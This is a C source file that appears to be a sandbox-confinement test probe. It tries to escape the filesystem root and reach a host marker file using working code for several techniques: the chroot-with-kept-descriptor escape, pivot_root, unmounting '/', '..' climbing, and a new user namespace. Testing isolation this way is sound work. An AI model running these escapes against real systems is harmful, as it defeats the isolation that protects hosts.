/* Leaves the root: chroot with a kept descriptor, pivot_root back, `..` beyond the top. argv: marker */
#include "attack.h"
#include <sched.h>
#include <sys/mount.h>
#include <sys/syscall.h>

static bool climb(const char *marker)
{
        char path[4096];
        for (int i = 0; i < 64; i++)
                if (chdir("..") < 0)
                        return false;
        if (sees(marker + 1))
                return true;
        snprintf(path, sizeof(path), "../../../../../../..%s", marker);
        return sees(path);
}

static bool by_chroot(const char *marker)
{
        int top = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
        mkdir("/tmp/jail", 0700);
        if (top < 0 || chroot("/tmp/jail") < 0)
                return false;
        bool through = fchdir(top) == 0 && climb(marker) ;
        through = through || (chroot(".") == 0 && sees(marker));
        close(top);
        return through;
}

static bool by_pivot(const char *marker)
{
        mkdir("/tmp/new", 0700);
        if (mount("/tmp/new", "/tmp/new", NULL, MS_BIND, NULL) < 0)
                return false;
        mkdir("/tmp/new/old", 0700);
        if (syscall(SYS_pivot_root, "/tmp/new", "/tmp/new/old") < 0)
                return false;
        char path[4096];
        snprintf(path, sizeof(path), "/old%s", marker);
        return chdir("/") == 0 && (sees(path) || climb(marker));
}

static bool by_umount(const char *marker)
{
        if (umount2("/", MNT_DETACH) < 0)
                return false;
        return sees(marker) || climb(marker);
}

static bool by_new_namespace(const char *marker)
{
        if (unshare(CLONE_NEWUSER | CLONE_NEWNS) < 0)
                return false;
        return by_chroot(marker) || by_umount(marker);
}

int main(int argc, char **argv)
{
        if (argc != 2)
                return 2;
        attempt("open the host's file by its name", sees(argv[1]));
        attempt("climb with ..", climb(argv[1]));
        attempt("chroot and climb", by_chroot(argv[1]));
        attempt("pivot_root", by_pivot(argv[1]));
        attempt("unmount the root", by_umount(argv[1]));
        attempt("a user namespace of its own", by_new_namespace(argv[1]));
        return verdict();
}
